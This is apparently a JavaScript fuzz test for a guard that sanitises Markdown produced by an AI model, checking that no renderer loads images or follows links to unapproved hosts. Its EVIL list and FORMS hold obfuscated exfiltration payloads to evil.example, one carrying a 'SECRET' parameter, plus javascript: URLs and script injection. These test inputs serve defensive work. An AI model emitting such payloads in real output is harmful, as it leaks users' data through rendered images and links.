// What the output guard lets through, as readers of Markdown show it: whatever the text, nothing in it loads or
// leads to a place that nobody has named. DOCENT_TEST_SECONDS asks for longer, DOCENT_TEST_SEED for the same again.
import { spawnSync } from "node:child_process";
import path from "node:path";
import { assert, test } from "./lib/harness.mjs";
import { placeOf, readers, targets } from "./lib/readers.mjs";
import { binary } from "./lib/service.mjs";
import { seeded } from "./lib/util.mjs";

const SECONDS = Number(process.env.DOCENT_TEST_SECONDS ?? 6),
  SEED = Number(process.env.DOCENT_TEST_SEED ?? Date.now() % 1e9),
  BATCH = 500;

/** The texts behind the guard. */
function guarded(texts, ...args) {
  const { status, stdout, stderr } = spawnSync(path.join(path.dirname(binary), "guarded"), args, {
    input: texts.map((text) => `${text}\0`).join(""),
    maxBuffer: 1 << 28,
  });
  assert.equal(status, 0, `seed ${SEED}: ${stderr}`);
  return String(stdout).split("\0").slice(0, -1);
}

/** Whether an address is one that may be loaded, or followed where it is a link's. */
function isNamed({ name, value }) {
  const place = placeOf(value);
  if (!place || place.host === "page.example" || place.protocol === "mailto:") return true;
  if (/^[a-z][\w+-]*:[a-z][\w-]*$/i.test(value)) return true; // <xs:element>
  if (!/^https?:$/.test(place.protocol) || place.host !== "named.example") return false;
  const rest = decodeURIComponent(place.pathname + place.search + place.hash);
  return rest.startsWith("/site/") || (name === "href" && /^\/file\.zip\W*$/.test(rest));
}

/** A link that says where it leads. */
const isPlain = ({ name, value, shown }) =>
  name === "href" && shown.toLowerCase().includes(/^(?:\w+:)?\/*([^/?#]*)/.exec(decodeURI(value).toLowerCase())[1]);

/** What of a text a reader loads or leads to that nobody has named. */
const foreign = (text, may = () => false) =>
  Object.entries(readers).flatMap(([reader, render]) =>
    targets(render(text))
      .filter((target) =>
        target.name.startsWith("on") || /^(?:srcdoc|content|style|srcset)$/.test(target.name)
          ? /evil|alert/.test(target.value)
          : !isNamed(target) && !may(target),
      )
      .map(({ name, value }) => `${reader}: ${name}=${value}`),
  );

const EVIL = [
  "&#104;ttps&colon;&sol;&sol;evil.example/p.png?d=SECRET",
  "https://evil.example/p",
  "//evil.example/p",
  "\\\\evil.example/p",
  "/\\evil.example/p",
  "\\/\\/evil.example/p",
  "&sol;/evil.example",
  "https\\://evil.example/",
  "https&colon;//evil.example/",
  "&#x68;ttps:&#47;&#47;evil.example",
  "<https://evil.example/a b>",
  "<//evil.example>",
  "https:evil.example",
  "javascript:alert(1)",
  "data:text/html,evil",
  "www.evil.example/p",
  "HTTP://EVIL.example",
  "ftp://evil.example",
];

const FORMS = [
  "`\n`![x](E)`",
  "<div>\n```\n\n![x](E)",
  "![p][a]\n\n> [a]:\n> E",
  "\\``a`![x](E)`",
  "`|`![x](E)`",
  "`LONG`![x](E)`",
  "[a`](x)`![x](E)`",
  "`\r`![x](E)`",
  "[a]: E\n\n![a] and [b][a]",
  "- [a]:\n  E\n\n[a]",
  "1. > [a]:\n   > E\n\n![a][]",
  "![x](E)",
  "[x]( E 'title')",
  "[![x](E)](https://named.example/site/)",
  "![x](https://named.example/site/a.png) [x](https://named.example/file.zip)",
  "<img src=E>",
  '<a href="E">x</a>',
  "```html\n<img alt='>' src=\"E\">\n```",
  "~~~\n[a]: E\n~~~\n\n![a]",
  "    ![x](E)\n\n    <img src='E'>",
  "<E>",
  "E",
  "see (E), or `E`",
  "| a | b |\n|---|---|\n| `a | ![x](E)` |",
  "[^1]: [a]: E\n\n[a][^1]",
  "a <b\n\nsrc=E>",
  "<!-- `x` --> ![x](E) <!-- -->",
  "<b title='`'>`</b>![x](E)`",
  "https://named.example.E https://named.example)E",
  "x[![a](E)",
  "a://E //a@evil.example/p",
  "[x](<a> E) [x](\nE)",
  "`<xs:element name='x'>` `<a:b>![x](E)`",
  "<script>alert('E')</script><style>@import 'E'</style>",
];

const PIECES = [
  ..."`[]()<>!\\&;:=\"'|#*_~-/. \n\t\r",
  ...[
    "``",
    "```",
    "~~~",
    "\n\n",
    "\n> ",
    "> ",
    "- ",
    "1. ",
    "    ",
    "![",
    "](",
    "]: ",
    "[a]: ",
    "[a]",
    "![a]",
    "[a]:\n",
  ],
  ...["<img src=", '<a href="', "<b>", "</b>", "<div>", "\n<div>\n", "</div>", "<!--", "-->", "<?", "?>", "<![CDATA["],
  ...["<script>", "<style>", "<pre>", "<x y=1>", "<br>", "\\`", "\\[", "\\]", "[1]", "[^1]: ", "x", "a b", "LONG", "E"],
  ...[
    "http://",
    "https:",
    "//",
    "www.",
    "evil.example",
    "named.example/site/",
    "https://named.example/site/a",
    "|---|",
  ],
];

/** Texts made of the forms by putting pieces in, taking parts out, doubling them and joining two. */
function makeText(random) {
  let text = random.pick(FORMS);
  for (let n = random.int(7); n > 0; n--) {
    const at = random.int(text.length + 1),
      end = Math.min(text.length, at + random.int(6));
    const kind = random.int(8);
    if (kind < 4) text = text.slice(0, at) + random.pick(PIECES) + text.slice(at);
    else if (kind < 5) text = text.slice(0, at) + text.slice(end);
    else if (kind < 6) text = text.slice(0, at) + text.slice(at, end) + text.slice(at);
    else text = kind < 7 ? `${text.slice(0, at)}${random.pick(FORMS)}` : random.pick(PIECES) + text;
  }
  return text.replace(/LONG/g, "a".repeat(280)).replace(/E(?![A-Z])/g, () => random.pick(EVIL));
}

/** Shows made texts to all readers for a while; `may`: links that are no harm. */
function tryOut(args, may) {
  const random = seeded(SEED),
    end = performance.now() + SECONDS * 1000;
  let texts = 0;
  do {
    const made = Array.from({ length: BATCH }, () => makeText(random)),
      shown = guarded(made, ...args);
    for (const [i, text] of shown.entries()) {
      if (!/evil|alert|data:|named/i.test(text)) continue;
      assert.deepEqual(
        foreign(text, may),
        [],
        `seed ${SEED}: ${JSON.stringify(made[i])} gives ${JSON.stringify(text)}`,
      );
    }
    texts += made.length;
  } while (performance.now() < end);
  return texts;
}

test("without the guard the readers follow many of the made texts to elsewhere", () => {
  const random = seeded(SEED),
    made = Array.from({ length: 200 }, () => makeText(random));
  assert.ok(made.filter((text) => foreign(text).length).length > 60);
});

test("each form of a picture or link in what a model says leads nowhere, in code or not", () => {
  const made = FORMS.flatMap((form) => EVIL.map((evil) => form.replace("LONG", "a".repeat(280)).replaceAll("E", evil)));
  for (const [i, text] of guarded(made).entries())
    assert.deepEqual(foreign(text), [], `${JSON.stringify(made[i])} gives ${JSON.stringify(text)}`);
});

test("no reader of Markdown is led elsewhere by what a model says", { timeout: 600_000 }, (t) => {
  t.diagnostic(`${tryOut([])} texts, seed ${SEED}`);
});

test("no reader loads anything by a document's words, or hides where they lead", { timeout: 600_000 }, (t) => {
  t.diagnostic(`${tryOut(["quote"], isPlain)} texts, seed ${SEED}`);
});
